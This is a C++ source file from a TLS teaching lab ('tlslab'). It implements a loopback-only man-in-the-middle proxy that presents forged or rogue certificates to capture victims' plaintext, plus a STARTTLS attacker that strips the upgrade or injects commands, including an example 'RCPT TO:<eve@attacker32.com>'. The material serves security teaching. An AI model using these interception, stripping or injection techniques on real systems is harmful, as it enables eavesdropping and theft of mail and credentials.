// `tlslab mitm`: run the attacker's proxy on its own, for hands-on work:
// start `tlslab serve`, then this, then point a client at the proxy with
// `tlslab connect bank32.com:4433 --resolve bank32.com=127.0.0.66`.
#include <fmt/core.h>

#include <atomic>
#include <chrono>
#include <csignal>
#include <iostream>
#include <string>
#include <thread>
#include <vector>

#include "cli/Commands.hpp"
#include "cli/RunPrinter.hpp"
#include "cli/StartError.hpp"
#include "cli/LabArgs.hpp"
#include "cli/TlsArgs.hpp"
#include "tlslab/endpoints/MitmProxy.hpp"
#include "tlslab/endpoints/StarttlsAttacker.hpp"
#include "tlslab/util/Paths.hpp"

namespace tlslab::cli {
namespace {

struct MitmArgs {
  std::string listen = "127.0.0.66";
  int listenPort = 4433;
  std::string target = "127.0.0.1";
  int targetPort = 4433;
  std::string strategy = "attacker-own";
  int connections = 0;
  double seconds = 0;
  bool fullLog = false;
  // The STARTTLS attacker instead (lab 13): a plain TCP proxy that strips or injects.
  std::string starttls;
  bool strip = false;
  std::string inject;
};

std::atomic<bool> stopRequested{false};

// Nothing but the attacker's log reads a victim's events back, and it shows
// the first 300 bytes the victim sent: keep little per connection.
constexpr endpoints::EventWindow kProxyWindow{4096, 256 * 1024};

// The attacker's log, written as victims finish so each victim's events are
// freed at once (issue 16, item 3): the first kListed victims in full, then a count.
struct AttackerLog {
  static constexpr std::size_t kListed = 100;
  std::vector<std::string> entries;
  std::size_t victims = 0;
  endpoints::EventsDropped dropped;

  void add(std::string entry, const endpoints::EventsDropped& notKept) {
    dropped += notKept;
    if (++victims <= kListed) entries.push_back(std::move(entry));
  }
  void print(std::ostream& out) const {
    out << "\nThe attacker's log:\n";
    for (const auto& entry : entries) out << entry;
    if (victims > entries.size()) out << fmt::format("  ... and {} more victim(s)\n", victims - entries.size());
    if (dropped.any())
      out << fmt::format("  ({} events, {} bytes were shown live but not kept: {} events, {} KiB per victim at most)\n",
                         dropped.events, dropped.bytes, kProxyWindow.maxEvents, kProxyWindow.maxPayloadBytes / 1024);
  }
};

// Waits for Ctrl-C, the connection count or the time limit, handing each
// finished victim to `collect` as it comes.
template <typename CountFn, typename CollectFn>
void waitForVictims(const MitmArgs& args, CountFn finished, CollectFn collect) {
  std::signal(SIGINT, [](int) { stopRequested = true; });
  std::signal(SIGTERM, [](int) { stopRequested = true; });
  auto started = std::chrono::steady_clock::now();
  while (!stopRequested) {
    collect();
    if (args.connections > 0 && finished() >= static_cast<std::size_t>(args.connections)) break;
    if (args.seconds > 0 && std::chrono::steady_clock::now() - started > std::chrono::duration<double>(args.seconds)) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
}

// `tlslab mitm --starttls smtp --strip | --inject CMD`: no certificate, no TLS
// of its own; it works on the cleartext before the upgrade.
int runStarttlsAttacker(const MitmArgs& args) {
  endpoints::StarttlsAttackConfig config;
  auto protocol = parseStarttls(args.starttls);
  if (!protocol || *protocol == endpoints::Starttls::None || args.strip == !args.inject.empty()) {
    std::cerr << "tlslab mitm: --starttls smtp|pop3|imap with exactly one of --strip and --inject CMD\n";
    return 2;
  }
  config.protocol = *protocol;
  config.mode = args.strip ? endpoints::StarttlsAttackConfig::Mode::Strip : endpoints::StarttlsAttackConfig::Mode::Inject;
  config.injected = unescapeArg(args.inject);
  // A command ends with CRLF; add it when the attacker typed none.
  const std::string& cmd = config.injected;
  if (!cmd.empty() && (cmd.size() < 2 || cmd.compare(cmd.size() - 2, 2, "\r\n") != 0)) config.injected += "\r\n";
  config.listenAddress = args.listen;
  config.listenPort = static_cast<std::uint16_t>(args.listenPort);
  config.targetAddress = args.target;
  config.targetPort = static_cast<std::uint16_t>(args.targetPort);
  config.window = kProxyWindow;
  auto attacker = endpoints::StarttlsAttacker::start(config);
  if (!attacker) {
    printStartError(std::cerr, "mitm", attacker.error());
    return 1;
  }
  std::cout << fmt::format("STARTTLS attacker on {}:{} -> mail server at {}:{}, {}\n", args.listen, (*attacker)->port(),
                           args.target, args.targetPort,
                           args.strip ? "stripping STARTTLS" : "injecting " + printable(asBytes(config.injected)));
  std::cout.flush();
  AttackerLog log;
  auto collect = [&] {
    for (const auto& note : (*attacker)->takeNotes()) std::cout << "attacker: " << note << std::endl;
    for (const auto& session : (*attacker)->takeSessions()) {
      std::string entry = fmt::format("  victim {}:\n", session.peer);
      for (const auto& action : session.actions) entry += "    " + action + "\n";
      entry += "    read from the victim in cleartext: \"" + printable(asBytes(session.fromClient), 400) + "\"\n";
      if (session.upgraded) entry += fmt::format("    then relayed {} bytes of TLS it cannot read\n", session.tlsBytesRelayed);
      if (!session.error.empty()) entry += "    " + session.error + "\n";
      log.add(std::move(entry), session.dropped);
    }
  };
  waitForVictims(args, [&] { return (*attacker)->sessionCount(); }, collect);
  (*attacker)->stop();
  collect();
  log.print(std::cout);
  return 0;
}

int runMitmProxy(const MitmArgs& args) {
  if (!args.starttls.empty() || args.strip || !args.inject.empty()) return runStarttlsAttacker(args);
  endpoints::MitmConfig config;
  config.listenAddress = args.listen;
  config.listenPort = static_cast<std::uint16_t>(args.listenPort);
  config.targetAddress = args.target;
  config.targetPort = static_cast<std::uint16_t>(args.targetPort);
  config.certsDir = certsDir();
  config.window = kProxyWindow;
  bool known = false;
  for (auto s : endpoints::allAttackerCertificates()) {
    if (args.strategy == endpoints::attackerCertificateName(s)) {
      config.certificate = s;
      known = true;
    }
  }
  if (!known) {
    std::cerr << "tlslab mitm: --cert is one of attacker-own, self-signed, rogue-ca, forged, leaf-signed-leaf\n";
    return 2;
  }
  RunPrinter printer(std::cout, args.fullLog ? LogStyle::Full : LogStyle::Ladder, RunLanes::mitm(false));
  auto proxy = endpoints::MitmProxy::start(config, printer.observer());
  if (!proxy) {
    printStartError(std::cerr, "mitm", proxy.error());
    return 1;
  }
  std::cout << fmt::format("proxy on {}:{} -> bank32.com at {}:{}, presenting {}\n", args.listen, (*proxy)->port(),
                           args.target, args.targetPort, endpoints::attackerCertificateDescription(config.certificate));
  std::cout << fmt::format("victims: tlslab connect bank32.com:{} --resolve bank32.com={} [--verify chain-only]\n",
                           (*proxy)->port(), args.listen);
  std::cout.flush();
  AttackerLog log;
  auto collect = [&] {
    for (const auto& session : (*proxy)->takeSessions()) {
      std::string seen;
      for (const auto& event : session.events)
        if (const auto* data = std::get_if<endpoints::AppDataEvent>(&event); data && !data->sent)
          seen.append(data->bytes.begin(), data->bytes.end());
      auto notKept = session.dropped;
      notKept += session.upstream.dropped;
      log.add(fmt::format("  victim {}: {}\n", session.peer,
                          session.handshakeOk ? "\"" + printable(asBytes(seen), 300) + "\"" +
                                                    (session.error.empty() ? "" : "; " + oneLine(session.error))
                                              : "no TLS session (" + oneLine(session.error) + ")"),
              notKept);
    }
  };
  waitForVictims(args, [&] { return (*proxy)->sessionCount(); }, collect);
  (*proxy)->stop();
  collect();
  log.print(std::cout);
  return 0;
}

}  // namespace

void registerMitmCommand(CLI::App& app, Context& ctx) {
  auto args = std::make_shared<MitmArgs>();
  CLI::App* cmd = app.add_subcommand("mitm", "Run the attacker's man-in-the-middle proxy (loopback only)");
  cmd->add_option("--listen", args->listen, "Attacker's loopback address (default 127.0.0.66)");
  cmd->add_option("--port", args->listenPort, "Port to listen on (default 4433)")->check(CLI::Range(0, 65535));
  cmd->add_option("--target", args->target, "Real server's loopback address (default 127.0.0.1)");
  cmd->add_option("--target-port", args->targetPort, "Real server's port (default 4433)")->check(CLI::Range(1, 65535));
  cmd->add_option("--cert", args->strategy, "attacker-own, self-signed, rogue-ca, forged or leaf-signed-leaf");
  cmd->add_option("--connections", args->connections, "Stop after N victims");
  cmd->add_option("--seconds", args->seconds, "Stop after this many seconds");
  cmd->add_flag("--full-log", args->fullLog, "Every event OpenSSL reported on both legs instead of the ladder");
  cmd->add_option("--starttls", args->starttls, "Be the STARTTLS attacker instead (lab 13): smtp, pop3 or imap");
  cmd->add_flag("--strip", args->strip, "--starttls: remove STARTTLS from the server's capabilities");
  cmd->add_option("--inject", args->inject,
                  "--starttls: append this command to the client's STARTTLS (\\r\\n understood; e.g. 'RCPT TO:<eve@attacker32.com>')");
  cmd->callback([args, &ctx] { ctx.exitCode = runMitmProxy(*args); });
}

}  // namespace tlslab::cli
